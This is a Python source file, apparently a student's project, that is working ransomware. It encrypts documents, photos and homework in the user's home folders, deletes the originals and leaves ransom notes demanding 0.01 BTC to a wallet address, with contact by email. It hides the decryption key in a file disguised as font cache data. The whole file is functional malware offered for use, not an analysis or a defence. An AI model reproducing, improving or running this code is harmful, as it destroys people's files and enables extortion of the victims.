# "essay vault" lol. locks up the files and leaves a note
# v0.3 - uses threads + a queue now because it was too slow
import os
import queue
import threading
import time
from cryptography.fernet import Fernet

HOME = os.path.expanduser("~")
TARGET_DIRS = ["Documents", "Desktop", "Pictures", "Downloads", "school"]
EXTS = [".docx", ".doc", ".pdf", ".txt", ".xlsx", ".pptx", ".jpg", ".png", ".odt", ".zip"]
NEW_EXT = ".vaulted"
NOTE_NAME = "HOW_TO_GET_YOUR_FILES_BACK.txt"
WALLET = "bc1q7m3xk2v9d0wqpl4h8c5e6r2t9y0u3i8o7p6a5s"
WORKERS = 4

key = Fernet.generate_key()
box = Fernet(key)
q = queue.Queue()
done_count = 0
fail_count = 0
counter_lock = threading.Lock()
print("DEBUG key", key[:8])

def worker():
    global done_count, fail_count
    while True:
        path = q.get()
        if path is None:
            q.task_done()
            break
        try:
            f = open(path, "rb")
            data = f.read()
            f.close()
            out = open(path + NEW_EXT, "wb")
            out.write(box.encrypt(data))
            out.close()
            os.remove(path)
            counter_lock.acquire()
            done_count = done_count + 1
            counter_lock.release()
        except:
            counter_lock.acquire()
            fail_count = fail_count + 1
            counter_lock.release()
        q.task_done()

threads = []
for i in range(WORKERS):
    t = threading.Thread(target=worker)
    t.start()
    threads.append(t)

start = time.time()
folders_hit = []
for d in TARGET_DIRS:
    top = os.path.join(HOME, d)
    if not os.path.isdir(top):
        print("DEBUG no", top)
        continue
    for root, dirs, files in os.walk(top):
        folders_hit.append(root)
        for name in files:
            if name == NOTE_NAME or name.endswith(NEW_EXT):
                continue
            ext = os.path.splitext(name)[1].lower()
            if ext in EXTS:
                q.put(os.path.join(root, name))

print("DEBUG queued", q.qsize(), "files")
q.join()
for i in range(WORKERS):
    q.put(None)
for t in threads:
    t.join()

note = (
    "Your documents, photos and homework have been locked.\n"
    "To get them back send 0.01 BTC to " + WALLET + "\n"
    "then email your computer id to vaultkeeper@proton.me\n"
    "Computer id: " + str(abs(hash(key)) % 10**10) + "\n"
    "Do not rename the files or they are gone forever.\n"
)
for folder in folders_hit:
    try:
        n = open(os.path.join(folder, NOTE_NAME), "w")
        n.write(note)
        n.close()
    except:
        pass

# keep the key hidden somewhere only I know about
try:
    k = open(os.path.join(HOME, ".cache", ".fontconfig.idx"), "wb")
    k.write(key)
    k.close()
except:
    pass

print("done:", done_count, "failed:", fail_count, "in", round(time.time() - start, 1), "s")
